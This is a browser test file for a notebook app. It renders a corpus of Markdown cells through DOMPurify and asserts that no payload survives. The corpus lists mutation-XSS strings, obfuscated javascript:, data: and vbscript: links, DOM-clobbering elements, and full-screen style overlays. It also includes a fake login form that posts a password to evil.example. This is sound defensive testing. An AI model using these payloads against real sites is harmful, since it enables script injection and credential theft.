'use strict';
// Markdown and HTML in Markdown cells reach the app's own origin, so they go
// through DOMPurify (issue 15). The corpus holds the classes of Jupyter's
// sanitizer CVEs: mXSS (namespace confusion through svg/math/style/noscript),
// javascript: URLs dressed up (tab entity, case, entities, leading space,
// data:, vbscript:), DOM clobbering (id/name), <form action>, full-window
// `style` overlays. The browser context bypasses the page's CSP, so a
// payload that survives sanitizing would really run and set window.__xss.
const { describe, it, before, after } = require('node:test');
const assert = require('node:assert/strict');
const { startServer, launchBrowser, screenshot, testHook } = require('./harness');

const USER = ['mallory', 'sanitize me please'];

const CORPUS = [
  // mXSS and namespace confusion
  '<img src=x onerror="window.__xss=1">',
  '<svg><style><img src=x onerror="window.__xss=2"></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=3">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=4>"></noscript>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=5>',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=6>">',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=window.__xss=7 src=1>"></path>',
  '<svg><animate onbegin="window.__xss=8" attributeName="x" dur="1s"></animate></svg>',
  '<details open ontoggle="window.__xss=9"><summary>s</summary>d</details>',
  '<iframe srcdoc="<script>parent.__xss=10</script>"></iframe>',
  '<object data="javascript:window.__xss=11"></object><embed src="javascript:window.__xss=12">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:window.__xss=13">',
  // javascript: variants
  '<a class="js" href="java&#x09;script:window.__xss=20">tab entity</a>',
  '<a class="js" href="JaVaScRiPt:window.__xss=21">case</a>',
  '<a class="js" href="&#106;avascript:window.__xss=22">entity</a>',
  '<a class="js" href=" javascript:window.__xss=23">space</a>',
  // The parser makes NUL U+FFFD: a relative link, harmless (badLinks checks the protocol).
  '<a class="nul" href="java\u0000script:window.__xss=24">nul</a>',
  '<a class="js" href="data:text/html,<script>parent.__xss=25</script>">data</a>',
  '<a class="js" href="vbscript:msgbox(1)">vb</a>',
  '[markdown link](javascript:window.__xss=26)',
  '[markdown entity](java&#x09;script:window.__xss=27)',
  '<svg><a xlink:href="javascript:window.__xss=28"><text x="0" y="10">svg link</text></a></svg>',
  // DOM clobbering
  '<img name="getElementById" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><form id="skylab"><input name="cells"></form>',
  '<a id="location" href="https://example.org/">loc</a><img name="cookie"><span id="__proto__">p</span>',
  // forms
  '<form action="https://evil.example/steal" method="post"><input name="password" type="password">' +
    '<button formaction="https://evil.example/b">Sign in</button></form>',
  // overlays
  '<div class="overlay-attempt" style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
  '<style>body { display: none }</style>',
  // what must stay: links, images, task lists, tables, math
  '[a link](https://example.org/page) <img alt="ok" src="data:image/png;base64,iVBORw0KGgo=">',
  '- [x] done\n- [ ] todo',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  'Euler: $e^{i\\pi} + 1 = 0$ and $$\\frac{a}{b}$$',
  'Big: $\\rule{1000em}{1000em}$',
];

describe('Markdown sanitizing (DOMPurify)', { timeout: 180000 }, () => {
  let server, browser, page;

  before(async () => {
    server = await startServer();
    server.addUser(...USER);
    const token = server.userToken(USER[0]);
    const cells = CORPUS.map((source, i) => ({ cell_type: 'markdown', metadata: {}, id: 'm' + i, source }));
    const r = await server.api('PUT', '/api/contents/corpus.ipynb', { type: 'notebook', format: 'json',
      content: { cells, metadata: {}, nbformat: 4, nbformat_minor: 5 } }, token);
    assert.ok(r.status === 201 || r.status === 200, JSON.stringify(r.json));
    browser = await launchBrowser();
    // No CSP: only the sanitizer stands between the corpus and a script.
    const context = await browser.newContext({ viewport: { width: 1280, height: 860 }, bypassCSP: true });
    await testHook(context);
    page = await context.newPage();
    page.on('pageerror', e => console.log('[pageerror]', e.message));
    page.on('dialog', d => { page.__dialogs = (page.__dialogs || 0) + 1; d.dismiss(); });
    await page.goto(server.url('/notebooks/corpus.ipynb'));
    await page.waitForURL(/\/login/);
    await page.fill('#username', USER[0]);
    await page.fill('#password', USER[1]);
    await Promise.all([page.waitForURL(u => !u.pathname.startsWith('/login')), page.click('button[type=submit]')]);
  });

  after(async () => {
    await browser?.close();
    await server?.stop();
  });

  it('renders the corpus with nothing dangerous left and no script run', async () => {
    // Cells render when they come into view: bring each one there.
    await page.locator('.cells > .cell').first().waitFor();
    for (let i = 0; i < CORPUS.length; i++) {
      await page.locator('.cells > .cell').nth(i).scrollIntoViewIfNeeded();
      await page.waitForFunction(n => document.querySelectorAll('.cells > .cell')[n]?.classList.contains('live'), i);
    }
    await page.locator('.markdown.rendered .katex').first().waitFor({ state: 'attached' });
    await page.waitForFunction(n => document.querySelectorAll('.markdown.rendered').length >= n, CORPUS.length);
    // Every image has loaded or failed (an onerror would have run by now).
    await page.waitForFunction(() => [...document.images].every(i => i.complete));
    await screenshot(page, 'sanitizer-corpus');
    const found = await page.evaluate(() => {
      const root = [...document.querySelectorAll('.markdown.rendered')];
      const all = root.flatMap(r => [...r.querySelectorAll('*')]);
      const attrs = all.flatMap(el => [...el.attributes].map(a => [el.tagName.toLowerCase(), a.name.toLowerCase(), a.value]));
      return {
        xss: window.__xss ?? null,
        on: attrs.filter(([, n]) => n.startsWith('on')),
        idName: attrs.filter(([, n]) => n === 'id' || n === 'name'),
        forms: all.filter(el => ['form', 'button', 'style', 'iframe', 'object', 'embed', 'base', 'meta', 'noscript', 'textarea']
          .includes(el.tagName.toLowerCase())).map(el => el.tagName),
        action: attrs.filter(([, n]) => ['action', 'formaction', 'srcdoc', 'xlink:href'].includes(n)),
        badLinks: root.flatMap(r => [...r.querySelectorAll('a[href]')]).map(a => a.protocol)
          .filter(p => !['http:', 'https:', 'mailto:'].includes(p)),
        jsLinksLeft: [...document.querySelectorAll('.markdown.rendered a.js[href]')].map(a => a.outerHTML),
        overlay: [...document.querySelectorAll('.overlay-attempt')].map(el => getComputedStyle(el).position),
        bodyShown: getComputedStyle(document.body).display !== 'none',
        inputs: [...document.querySelectorAll('.markdown.rendered input')].map(i => [i.type, i.disabled]),
        clobber: typeof document.getElementById === 'function' && typeof document.cookie === 'string' &&
          window.location instanceof Location && Array.isArray(window.skylab?.cells),
        katexStyles: [...document.querySelectorAll('.markdown.rendered .katex-html [style]')].length,
        mathml: document.querySelectorAll('.markdown.rendered .katex-mathml math semantics annotation').length,
        goodLink: [...document.querySelectorAll('.markdown.rendered a[href="https://example.org/page"]')]
          .map(a => a.target + ' ' + a.rel),
        goodImg: document.querySelectorAll('.markdown.rendered img[alt=ok][src^="data:image/png"]').length,
        table: document.querySelectorAll('.markdown.rendered table td').length,
        height: document.querySelector('.markdown.rendered .katex .rule')?.getBoundingClientRect().height ?? 0,
      };
    });
    assert.equal(found.xss, null, 'a payload ran');
    assert.equal(page.__dialogs || 0, 0);
    assert.deepEqual(found.on, []);
    assert.deepEqual(found.idName, [], 'id/name attributes (DOM clobbering)');
    assert.deepEqual(found.forms, []);
    assert.deepEqual(found.action, []);
    assert.deepEqual(found.badLinks, [], 'javascript:/data:/vbscript: links');
    assert.deepEqual(found.jsLinksLeft, []);
    assert.ok(found.overlay.every(p => p !== 'fixed'), 'a style overlay survived');
    assert.ok(found.bodyShown);
    assert.ok(found.clobber, 'document or window globals were clobbered');
    assert.deepEqual(found.inputs, [['checkbox', true], ['checkbox', true]]);
    // What must stay: KaTeX's layout styles and its MathML, links that open apart, images, tables.
    assert.ok(found.katexStyles > 0, 'KaTeX lost its styles');
    assert.equal(found.mathml, 3);
    assert.deepEqual(found.goodLink, ['_blank noopener noreferrer']);
    assert.equal(found.goodImg, 1);
    assert.equal(found.table, 2);
    assert.ok(found.height < 1000, `a \\rule of ${found.height}px`);
    // No element outside KaTeX keeps a style (an empty one, as Chromium adds to checkboxes, is none).
    const styled = await page.evaluate(() => [...document.querySelectorAll('.markdown.rendered [style]')]
      .filter(el => !el.closest('.katex') && el.getAttribute('style').trim()).map(el => el.outerHTML.slice(0, 80)));
    assert.deepEqual(styled, []);
  });
});
